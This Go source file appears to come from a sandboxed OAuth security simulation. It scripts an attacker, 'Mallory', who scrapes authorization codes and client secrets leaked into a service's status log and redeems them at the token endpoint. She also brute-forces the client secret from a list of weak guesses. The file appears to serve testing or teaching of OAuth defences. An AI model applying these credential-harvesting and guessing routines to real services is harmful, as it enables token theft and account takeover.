package world

import (
	"context"
	"html"
	"net/http"
	"net/url"
	"regexp"
)

// logThief is Mallory at a page of Planner's that shows its log. She takes the last code, and the secret if that was in an address
// too, and sends both to the token endpoint while the code is young: what RFC 6749 §10.5 has in mind.
func (s *Sandbox) logThief(ctx context.Context) error {
	log, err := s.readStatus(ctx)
	if err != nil {
		return err
	}
	code := last(codeInLog, log)
	if code == "" {
		return nil
	}
	if secret := last(secretInLog, log); secret != "" {
		_, err = s.redeemAsPlanner(ctx, code, secret)
		return err
	}
	return s.redeemAs(ctx, Attacker, code)
}

// guesses are what Mallory tries for Planner's secret: what people choose who have to type it.
var guesses = []string{"123456", "qwerty", "abc123", "111111", "chirp1", "mocha1", "roast1", shortSecret, "plan24", "barist"}

// secretGuesser is Mallory with a code out of that log, and no secret. She tries short words, one after the other, until the code is
// swapped or she is told that it is enough.
func (s *Sandbox) secretGuesser(ctx context.Context) error {
	log, err := s.readStatus(ctx)
	if err != nil {
		return err
	}
	code := last(codeInLog, log)
	if code == "" {
		return nil
	}
	for _, guess := range guesses {
		status, err := s.redeemAsPlanner(ctx, code, guess)
		if err != nil || status != http.StatusUnauthorized {
			return err
		}
	}
	return nil
}

var (
	codeInLog   = regexp.MustCompile(`[?&]code=([^&\s<]+)`)
	secretInLog = regexp.MustCompile(`[?&]client_secret=([^&\s<]+)`)
)

// last is the last value of its kind in a log.
func last(kind *regexp.Regexp, log string) string {
	all := kind.FindAllStringSubmatch(log, -1)
	if len(all) == 0 {
		return ""
	}
	value, err := url.QueryUnescape(all[len(all)-1][1])
	if err != nil {
		return ""
	}
	return value
}

// readStatus asks Planner for its status page, as anybody may who knows where it is.
func (s *Sandbox) readStatus(ctx context.Context) (string, error) {
	req, err := http.NewRequest(http.MethodGet, plannerOrigin+statusPath, nil)
	if err != nil {
		return "", err
	}
	_, body, _, err := s.call(ctx, Attacker, req)
	return html.UnescapeString(string(body)), err
}

// redeemAsPlanner tries a code with a secret in the header, as Planner itself does, and posts with the token that comes of it.
func (s *Sandbox) redeemAsPlanner(ctx context.Context, code, secret string) (status int, err error) {
	form := url.Values{"grant_type": {"authorization_code"}, "code": {code}, "redirect_uri": {plannerCallback}}
	req, err := s.tokenRequest(form)
	if err != nil {
		return 0, err
	}
	withSecret(req, secret)
	return s.redeem(ctx, Attacker, req)
}
